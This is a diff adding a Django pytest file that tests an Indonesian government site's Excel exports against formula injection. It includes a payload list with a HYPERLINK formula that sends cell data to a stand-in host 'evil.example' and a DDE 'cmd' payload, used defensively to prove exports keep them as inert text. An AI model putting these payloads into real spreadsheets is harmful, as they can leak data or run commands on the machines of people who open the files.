@@ -1,0 +1,293 @@
+"""Formula injection (issue 14, item 1): every text cell of every Excel export is text.
+
+A payload corpus is put into real data (applicant names, an indikator, pegawai names, budget
+lines and SP2D numbers) and downloaded through each export URL by a user allowed to download.
+The workbook is opened keeping formulas (``data_only=False``): no cell is a formula, each text
+is the payload exactly, and a text starting with ``= + - @``, tab or CR carries Excel's
+``quotePrefix`` so it stays text when a user edits the cell. The sheet XML has no ``<f>``.
+``test_every_export_has_a_test_here`` lists every call of the shared writer in the apps, so a
+new export without a test here fails.
+"""
+
+from __future__ import annotations
+
+import ast
+import io
+import re
+import zipfile
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from badan_adhoc import selectors as adhoc_selectors
+from badan_adhoc.models import Pendaftar
+from kpu_site import excel
+from kpu_site.excel import XLSX_MIME
+from tests.anggaran.factories import DokumenAnggaranFactory, pohon_kecil
+from tests.badan_adhoc.conftest import (  # noqa: F401 (fixtures)
+    diseleksi,
+    rekrutmen_kpps,
+    staf_teknis,
+    wilayah_uji,
+)
+from tests.kinerja.factories import IndikatorFactory, RenstraFactory, SasaranFactory
+from tests.sekretariat.factories import PegawaiFactory
+
+pytestmark = pytest.mark.django_db
+
+ROOT = Path(__file__).resolve().parent.parent
+
+PAYLOAD = [
+    '=HYPERLINK("http://evil.example/?x="&A3,"Klik")',
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|' /C calc'!A0",
+]
+# What Excel and LibreOffice read as the start of a formula (OWASP, "CSV injection")
+AWALAN_RUMUS = ("=", "+", "-", "@", "\t", "\r")
+_XSTRING = re.compile(r"_x([0-9A-Fa-f]{4})_")
+
+
+def _teks(value: str) -> str:
+    """A text cell as Excel reads it: ECMA-376 ``ST_Xstring`` escapes (``_x000D_`` is CR,
+    ``_x005F_`` a literal underscore) decoded; openpyxl's reader leaves them as they are."""
+    return _XSTRING.sub(lambda m: chr(int(m.group(1), 16)), value)
+
+
+def _periksa(data: bytes, harus_ada: list[str]) -> list[tuple]:
+    """Check one exported workbook; return its rows (texts decoded) for export-specific checks."""
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        lembar = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
+        assert lembar
+        for nama in lembar:
+            xml = z.read(nama).decode()
+            assert not re.search(r"<(\w+:)?f[\s/>]", xml), f"{nama} holds a formula element"
+    wb = load_workbook(io.BytesIO(data), data_only=False)
+    teks_semua, rows = set(), []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            values = []
+            for cell in row:
+                assert cell.data_type != "f", (cell.coordinate, cell.value)
+                value = cell.value
+                if isinstance(value, str):
+                    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
+                    value = _teks(value)
+                    teks_semua.add(value)
+                    if value.startswith(AWALAN_RUMUS):
+                        assert cell.quotePrefix, (cell.coordinate, value)
+                values.append(value)
+            rows.append(tuple(values))
+    for payload in harus_ada:
+        assert payload in teks_semua, f"{payload!r} is not a cell of its own, exactly"
+    return rows
+
+
+def _unduh(client, url: str) -> bytes:
+    response = client.get(url)
+    assert response.status_code == 200, url
+    assert response["Content-Type"] == XLSX_MIME
+    return response.content
+
+
+# --------------------------------------------------------------------------- the shared writer
+
+
+def test_writer_keeps_text_as_text_and_numbers_as_numbers():
+    data = excel.xlsx_bytes(
+        judul="=1+1",
+        kolom=["=Kolom", "Nilai"],
+        baris=[[p, -i - 1] for i, p in enumerate(PAYLOAD)]
+        + [["-", Decimal("-1500.50")], ["#N/A", -0.5], ["biasa", 7]],
+        format_kolom={1: "rupiah"},
+    )
+    rows = _periksa(data, [*PAYLOAD, "=1+1", "=Kolom", "#N/A"])
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws["A1"].font.b and ws["A2"].font.b and ws.freeze_panes == "A3"
+    assert rows[2:] == [(p, -i - 1) for i, p in enumerate(PAYLOAD)] + [
+        ("-", -1500.5),
+        ("#N/A", -0.5),
+        ("biasa", 7),
+    ]
+    for cell in ws["B"][2:]:
+        assert cell.data_type == "n" and not cell.quotePrefix
+    assert ws["B11"].number_format == '"Rp" #,##0.00'
+    assert ws["A12"].data_type == "s"  # an error code typed as text is text
+    assert not ws["A13"].quotePrefix  # ordinary text is left alone
+
+
+def test_writer_keeps_control_characters_and_escape_lookalikes_exact():
+    teks = ["a\x01b", "baris\r\nbaru", "_x0041_", "tab\tdi tengah"]
+    data = excel.xlsx_bytes(judul="Uji", kolom=["Teks"], baris=[[t] for t in teks])
+    rows = _periksa(data, teks)
+    assert [r[0] for r in rows[2:]] == teks
+
+
+# --------------------------------------------------------------------------- the exports
+
+
+def test_pendaftar_export(masuk, diseleksi, staf_teknis):  # noqa: F811
+    for p, payload in zip(Pendaftar.objects.order_by("pk"), PAYLOAD, strict=False):
+        Pendaftar.objects.filter(pk=p.pk).update(nama=payload)
+    url = reverse("badan_adhoc:pendaftar_export", args=[diseleksi.pk])
+    rows = _periksa(_unduh(masuk(staf_teknis), url), PAYLOAD)
+    nik = {r[0]: r[1] for r in rows[2:]}
+    assert nik["3673011205900001"] == PAYLOAD[0]  # the full NIK (Teknis) beside the payload
+
+
+def test_pengumuman_export(masuk, diseleksi, staf_teknis):  # noqa: F811
+    kec = adhoc_selectors.kecamatan_list().first()
+    terdaftar = [
+        p.pk
+        for g in adhoc_selectors.pengumuman_grup(diseleksi, tahap="administrasi", kecamatan=kec.pk)
+        for p in g["rows"]
+    ]
+    assert len(terdaftar) >= len(PAYLOAD)
+    for pk, payload in zip(terdaftar, PAYLOAD, strict=False):
+        Pendaftar.objects.filter(pk=pk).update(nama=payload)
+    url = reverse("badan_adhoc:pengumuman_excel", args=[diseleksi.pk]) + f"?kecamatan={kec.pk}"
+    _periksa(_unduh(masuk(staf_teknis), url), PAYLOAD)
+
+
+def test_pegawai_export(masuk, auditor, unit_demo):
+    for payload in PAYLOAD:
+        PegawaiFactory(nama=payload)
+    _periksa(_unduh(masuk(auditor), reverse("sekretariat:pegawai_export")), PAYLOAD)
+
+
+def test_capaian_export(masuk, auditor):
+    sasaran = SasaranFactory(tujuan__renstra=RenstraFactory(tahun_mulai=2020, tahun_selesai=2024))
+    for payload in PAYLOAD:
+        IndikatorFactory(sasaran=sasaran, uraian=payload)
+    url = reverse("kinerja:capaian", kwargs={"tahun": 2023}) + "?format=xlsx"
+    _periksa(_unduh(masuk(auditor), url), PAYLOAD)
+
+
+@pytest.fixture
+def dipa_rawan(sekretaris):
+    """A DIPA whose number, budget lines and SP2D carry the payloads (stored through the model:
+    the services strip the leading tab/CR a form would)."""
+    from anggaran import services
+    from anggaran.models import DokumenAnggaran, Pos, Realisasi
+
+    dokumen = DokumenAnggaranFactory()
+    pohon = pohon_kecil(dokumen, sekretaris, pagu_akun=(Decimal("100000000"), Decimal("500000")))
+    for i in range(len(PAYLOAD)):
+        services.realisasi_create(
+            pengguna=sekretaris,
+            akun=pohon["akun"][0],
+            tanggal=date(2023, 1 + i, 5),
+            nomor_sp2d=f"SP2D-{i}",
+            nilai=Decimal("1000"),
+        )
+    for r, payload in zip(Realisasi.objects.order_by("pk"), PAYLOAD, strict=True):
+        Realisasi.objects.filter(pk=r.pk).update(
+            nomor_sp2d=payload, nomor_spm=payload, uraian=payload
+        )
+    pos = list(Pos.objects.filter(dokumen=dokumen).order_by("pk"))
+    for p, payload in zip(pos, PAYLOAD * 2, strict=False):
+        satuan = payload if len(payload) <= 30 else "@satuan"  # satuan: varchar(30)
+        Pos.objects.filter(pk=p.pk).update(uraian=payload, satuan=satuan)
+    DokumenAnggaran.objects.filter(pk=dokumen.pk).update(nomor="=1+1")
+    dokumen.refresh_from_db()
+    return dokumen
+
+
+def test_pohon_anggaran_export(masuk, auditor, dipa_rawan):
+    url = reverse("anggaran:dokumen_detail", args=[dipa_rawan.pk]) + "?unduh=xlsx"
+    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD)
+    assert rows[0][0].startswith("=1+1 (2023)")  # the title starts with the DIPA number
+
+
+def test_realisasi_export(masuk, auditor, dipa_rawan):
+    url = reverse("anggaran:realisasi_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
+    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD)
+    assert {r[5] for r in rows[2:]} == {1000}  # the amounts stay numbers
+
+
+def test_serapan_export(masuk, auditor, dipa_rawan):
+    url = reverse("anggaran:serapan", args=[dipa_rawan.pk]) + "?unduh=xlsx"
+    rows = _periksa(_unduh(masuk(auditor), url), [])
+    assert rows[0][0] == "Serapan bulanan =1+1 (2023)"
+
+
+def test_laporan_export(masuk, auditor, dipa_rawan):
+    url = reverse("anggaran:laporan", kwargs={"tahun": 2023}) + "?unduh=xlsx"
+    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD[:2])
+    assert [r[1] for r in rows[2:4]] == PAYLOAD[:2]  # program and kegiatan lines
+
+
+# --------------------------------------------------------------------------- completeness
+
+# Every place in the apps that writes an Excel download, with the test above that covers it.
+EKSPOR_DIUJI = {
+    "anggaran/views/dokumen.py::DokumenDetailView": "test_pohon_anggaran_export",
+    "anggaran/views/laporan.py::LaporanView": "test_laporan_export",
+    "anggaran/views/laporan.py::SerapanView": "test_serapan_export",
+    "anggaran/views/realisasi.py::RealisasiListView": "test_realisasi_export",
+    "badan_adhoc/views/pendaftar.py::PendaftarExportView": "test_pendaftar_export",
+    "badan_adhoc/views/tahap.py::PengumumanView": "test_pengumuman_export",
+    "kinerja/views/capaian.py::CapaianView": "test_capaian_export",
+    "sekretariat/views.py::PegawaiExportView": "test_pegawai_export",
+}
+APPS = ("kpu_site", "kinerja", "anggaran", "badan_adhoc", "sekretariat")
+
+
+def _sumber():
+    for app in APPS:
+        for path in sorted((ROOT / app).rglob("*.py")):
+            if "migrations" not in path.parts:
+                yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")
+
+
+def _ekspor_di(nama: str, teks: str):
+    """``<file>::<outermost class or function>`` of each call of the shared writer."""
+    pohon = ast.parse(teks)
+    induk = {anak: node for node in ast.walk(pohon) for anak in ast.iter_child_nodes(node)}
+    for node in ast.walk(pohon):
+        func = getattr(node, "func", None)
+        if isinstance(node, ast.Call) and getattr(func, "id", getattr(func, "attr", None)) in (
+            "xlsx_response",
+            "xlsx_bytes",
+        ):
+            luar, n = None, node
+            while n in induk:
+                n = induk[n]
+                if isinstance(n, ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef):
+                    luar = n.name
+            yield f"{nama}::{luar or '<modul>'}"
+
+
+def test_every_export_has_a_test_here():
+    ditemukan = {
+        ekspor
+        for nama, teks in _sumber()
+        if nama != "kpu_site/excel.py"
+        for ekspor in _ekspor_di(nama, teks)
+    }
+    assert ditemukan == set(EKSPOR_DIUJI)
+    for test in EKSPOR_DIUJI.values():
+        assert callable(globals()[test]), test
+
+
+def test_no_export_writes_xlsx_past_the_shared_writer():
+    """openpyxl is imported only by the writer and (to read uploads) the importer; the XLSX
+    MIME type is written only by the writer."""
+    for nama, teks in _sumber():
+        if nama == "kpu_site/excel.py":
+            continue
+        for node in ast.walk(ast.parse(teks)):
+            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
+                assert nama == "kpu_site/impor.py", nama
+                assert [a.name for a in node.names] == ["load_workbook"], nama
+            if isinstance(node, ast.Import):
+                assert not any(a.name.startswith("openpyxl") for a in node.names), nama
+        assert "spreadsheetml" not in teks and "XLSX_MIME" not in teks, nama
